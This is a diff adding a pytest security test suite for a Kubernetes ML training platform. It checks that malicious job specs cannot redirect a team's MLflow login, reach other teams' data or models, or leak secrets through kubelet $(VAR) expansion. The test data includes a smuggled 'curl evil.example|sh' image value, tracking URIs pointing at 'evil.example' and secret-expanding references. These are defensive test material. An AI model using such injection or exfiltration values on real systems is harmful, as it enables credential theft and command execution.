@@ -1,0 +1,206 @@
+"""Attacks on a team's data, credentials and names, from the attacker's seat (issue 18 items
+3, 6, 7, 8, 10; review security-3 C2, H5, M3, M4, M7, M8, M9). One row per attack: what
+team A (or a job spec author of team A) tries, and the control that refuses it, asserted on
+the rendered objects, the recorded plan or the real program that enforces it.
+
+The kubelet's `$(VAR)` rule, from the Kubernetes API (core/v1 Container.args, the same for
+command and env values): "Variable references $(VAR_NAME) are expanded using the container's
+environment. If a variable cannot be resolved, the reference in the input string will be
+unchanged. Double $$ are reduced to a single $, which allows for escaping the $(VAR_NAME)
+syntax: i.e. "$$(VAR_NAME)" will produce the string literal "$(VAR_NAME)". Escaped references
+will never be expanded, regardless of whether the variable exists or not."
+`kubelet_expand` below is a line-by-line port of that expansion
+(kubernetes third_party/forked/golang/expansion/expand.go: Expand, tryReadVariableName).
+"""
+from __future__ import annotations
+
+import copy
+from pathlib import Path
+from typing import Callable
+
+import pytest
+import yaml
+
+from workloads.jobspec import JobSpecError, parse_image_reference, parse_job_spec
+from workloads.trainingjob import render_pytorchjob, resolve
+
+ROOT = Path(__file__).resolve().parents[2]
+EXAMPLE = ROOT / "examples" / "jobs" / "gpt2-pretrain.yaml"
+SECRET_VALUE = "s3cr3t-team-password"
+ECR = "111122223333.dkr.ecr.us-west-2.amazonaws.com/mlp-prod/trainer"
+
+
+def kubelet_expand(value: str, env: dict[str, str]) -> str:
+    out, checkpoint, cursor = [], 0, 0
+    while cursor < len(value):
+        if value[cursor] == "$" and cursor + 1 < len(value):
+            out.append(value[checkpoint:cursor])
+            rest = value[cursor + 1:]
+            if rest[0] == "$":  # escaped operator
+                read, is_var, advance = "$", False, 1
+            elif rest[0] == "(":
+                close = rest.find(")", 1)
+                if close >= 0:
+                    read, is_var, advance = rest[1:close], True, close + 1
+                else:  # incomplete reference
+                    read, is_var, advance = "$(", False, 1
+            else:
+                read, is_var, advance = "$" + rest[0], False, 1
+            out.append((env[read] if read in env else f"$({read})") if is_var else read)
+            cursor += advance
+            checkpoint = cursor + 1
+        cursor += 1
+    return "".join(out) + value[checkpoint:]
+
+
+def test_the_expansion_port_agrees_with_the_documented_rule():
+    env = {"VAR": "x"}
+    assert kubelet_expand("$(VAR)", env) == "x"
+    assert kubelet_expand("$$(VAR)", env) == "$(VAR)"
+    assert kubelet_expand("$(MISSING)", env) == "$(MISSING)"
+    assert kubelet_expand("a$b$(", env) == "a$b$("
+
+
+@pytest.fixture(scope="module")
+def prod_facts(prod_plan):
+    from infra.facts import facts_from_plan
+
+    return facts_from_plan(prod_plan)
+
+
+@pytest.fixture(scope="module")
+def example():
+    return yaml.safe_load(EXAMPLE.read_text())
+
+
+def with_(example, **changes) -> dict:
+    raw = copy.deepcopy(example)
+    for key, value in changes.items():
+        if key == "overrides":
+            raw["trainer"]["overrides"] = raw["trainer"]["overrides"] + value
+        elif key == "config":
+            raw["trainer"]["config"] = value
+        else:
+            raw[key] = value
+    return raw
+
+
+def refusal(raw, facts) -> str:
+    with pytest.raises(JobSpecError) as error:
+        resolve(parse_job_spec(raw), facts)
+    return str(error.value)
+
+
+# -- item 6: a job spec cannot redirect credentials or leave the team's space ----------------------
+# (attack, the spec change, the field the refusal names, a phrase of the refusal)
+REFUSED_SPECS = [
+    ("send the team's MLflow login to an attacker's server", {"overrides": ["tracking.uri=https://evil.example"]},
+     "trainer.overrides", "set by the platform"),
+    ("log into another team's experiment through an override", {"overrides": ["tracking.experiment=team-b/gpt2"]},
+     "trainer.overrides", "set by the platform"),
+    ("log into another team's experiment", {"experiment": "team-applied/gpt2"}, "experiment", "not the team's prefix"),
+    ("an experiment name carrying a variable reference", {"experiment": "$(MLFLOW_TRACKING_PASSWORD)"},
+     "experiment", "not an experiment name"),
+    ("register a model under another team's name", {"overrides": ["export.registered_model_name=team-applied.gpt2"]},
+     "trainer.overrides[export.registered_model_name]", "not under the team's model prefix"),
+    ("squat a global model name", {"overrides": ["export.registered_model_name=gpt2"]},
+     "trainer.overrides[export.registered_model_name]", "not under the team's model prefix"),
+    ("read another team's checkpoints as the dataset", {"dataset": "/fsx/checkpoints/team-applied/gpt2"},
+     "dataset", "outside the team's readable space"),
+    ("climb out of the datasets with ..", {"dataset": "/fsx/datasets/../checkpoints/team-applied"},
+     "dataset", "not a path on the FSx mount"),
+    ("write checkpoints into another team's directory", {"checkpointDir": "/fsx/checkpoints/team-applied/x"},
+     "checkpointDir", "outside /fsx/checkpoints/team-foundation-models/"),
+    ("export into another team's directory", {"overrides": ["export.dir=/fsx/checkpoints/team-applied/export"]},
+     "trainer.overrides[export.dir]", "outside the team's own space"),
+    ("resume from another team's checkpoint", {"overrides": ["checkpoint.resume=/fsx/checkpoints/team-applied/j/step-000100"]},
+     "trainer.overrides[checkpoint.resume]", "outside the team's own space"),
+    ("load a model from another team's directory", {"overrides": ["model.hf_path=/fsx/pipelines/team-applied/hf"]},
+     "trainer.overrides[model.hf_path]", "outside the team's own space"),
+    ("an image with an extra argument", {"image": f"{ECR}:1.0.0 --privileged"}, "image", "not an image reference"),
+    ("an image with a shell command", {"image": f"{ECR}:1.0.0;curl evil.example|sh"}, "image", "not an image reference"),
+    ("an image from a variable", {"image": "$(AWS_CONTAINER_CREDENTIALS_FULL_URI)/x:1"}, "image", "not an image reference"),
+    ("an image with an uppercase repository", {"image": "registry.example.com/Trainer:1"}, "image", "not an image reference"),
+    ("an image digest that is not one", {"image": f"{ECR}@sha256:abc"}, "image", "not an image reference"),
+    ("an unpinned image", {"image": ECR}, "image", "has no tag or digest"),
+    ("a moving tag", {"image": f"{ECR}:latest"}, "image", ":latest"),
+]
+
+
+@pytest.mark.parametrize("attack, change, field, phrase", REFUSED_SPECS, ids=[r[0] for r in REFUSED_SPECS])
+def test_a_malicious_job_spec_is_refused_naming_the_field(prod_facts, example, attack, change, field, phrase):
+    message = refusal(with_(example, **change), prod_facts)
+    assert field in message and phrase in message, message
+    assert "Traceback" not in message
+
+
+# User strings that reach args or env: after the kubelet's expansion, each is exactly what the
+# user wrote, and the Secret's value appears nowhere.
+EXPANSION_ATTACKS = [
+    ("a trainer override reads the password", {"overrides": ["optimizer.lr=$(MLFLOW_TRACKING_PASSWORD)"]}),
+    ("an already-escaped reference", {"overrides": ["tracking.run_name=$$(MLFLOW_TRACKING_PASSWORD)"]}),
+    ("the run name reads the password", {"runName": "$(MLFLOW_TRACKING_PASSWORD)"}),
+    ("the config path reads the password", {"config": "trainer/configs/$(MLFLOW_TRACKING_PASSWORD).yaml"}),
+    ("the dataset path reads the password", {"dataset": "/fsx/datasets/$(MLFLOW_TRACKING_PASSWORD)/v1"}),
+    ("the checkpoint path reads the password",
+     {"checkpointDir": "/fsx/checkpoints/team-foundation-models/$(MLFLOW_TRACKING_PASSWORD)"}),
+]
+
+
+@pytest.mark.parametrize("attack, change", EXPANSION_ATTACKS, ids=[r[0] for r in EXPANSION_ATTACKS])
+def test_no_user_string_expands_a_secret_in_the_container(prod_facts, example, attack, change):
+    raw = with_(example, **change)
+    manifest = render_pytorchjob(resolve(parse_job_spec(raw), prod_facts))
+    container = manifest["spec"]["pytorchReplicaSpecs"]["Master"]["template"]["spec"]["containers"][0]
+    # What the container would see: Secret-backed variables hold the secret.
+    env = {e["name"]: SECRET_VALUE for e in container["env"] if "valueFrom" in e}
+    for e in container["env"]:
+        if "value" in e:
+            env[e["name"]] = kubelet_expand(e["value"], env)
+    args = [kubelet_expand(a, env) for a in container["args"]]
+    seen = "\n".join([*args, *(v for k, v in env.items() if k not in {e["name"] for e in container["env"]
+                                                                     if "valueFrom" in e})])
+    assert SECRET_VALUE not in seen, attack
+    # ...and the user's text arrives exactly as written.
+    written = [v for v in change.values()][0]
+    written = written[0] if isinstance(written, list) else written
+    assert written.split("=", 1)[-1] in seen
+
+
+def test_the_unescaped_render_would_leak_the_secret(prod_facts, example, monkeypatch):
+    """The attack is real: with the escaping removed, the same spec puts the password in args."""
+    import workloads.trainingjob as trainingjob
+
+    monkeypatch.setattr(trainingjob, "k8s_literal", lambda value: value)
+    raw = with_(example, runName="$(MLFLOW_TRACKING_PASSWORD)")
+    container = render_pytorchjob(resolve(parse_job_spec(raw), prod_facts))["spec"]["pytorchReplicaSpecs"]["Master"][
+        "template"]["spec"]["containers"][0]
+    env = {e["name"]: SECRET_VALUE for e in container["env"] if "valueFrom" in e}
+    assert any(SECRET_VALUE in kubelet_expand(a, env) for a in container["args"])
+
+
+@pytest.mark.parametrize("reference, parts", [
+    (f"{ECR}:1.0.0", ("111122223333.dkr.ecr.us-west-2.amazonaws.com", "mlp-prod/trainer", "1.0.0", None)),
+    (f"{ECR}@sha256:" + "a" * 64, ("111122223333.dkr.ecr.us-west-2.amazonaws.com", "mlp-prod/trainer", None,
+                                     "sha256:" + "a" * 64)),
+    ("localhost:5000/trainer:dev", ("localhost:5000", "trainer", "dev", None)),
+    ("library/busybox:1.37.0", (None, "library/busybox", "1.37.0", None)),
+])
+def test_an_image_reference_is_parsed_into_its_parts(reference, parts):
+    assert tuple(parse_image_reference(reference)) == parts
+
+
+def test_the_trainer_sends_the_team_login_only_to_the_platforms_server(tmp_path):
+    """Defence in depth inside the pod, where the renderer's checks no longer apply: a config
+    file in the image that points tracking elsewhere is overruled by the Secret's URI, and a
+    command-line override that does is refused while the team's login is in the environment."""
+    from trainer.config import ConfigError, build_config
+
+    config = tmp_path / "c.yaml"
+    config.write_text("tracking:\n  uri: https://evil.example\n")
+    env = {"MLFLOW_TRACKING_URI": "https://mlflow.platform.internal", "MLFLOW_TRACKING_USERNAME": "team-a",
+           "MLFLOW_TRACKING_PASSWORD": SECRET_VALUE}
+    assert build_config(str(config), [], environ=env).tracking.uri == env["MLFLOW_TRACKING_URI"]
+    with pytest.raises(ConfigError, match="goes only to the platform's tracking server"):
+        build_config(None, ["tracking.uri=https://evil.example"], environ=env)
+    assert build_config(None, [], environ=env).tracking.uri == env["MLFLOW_TRACKING_URI"]
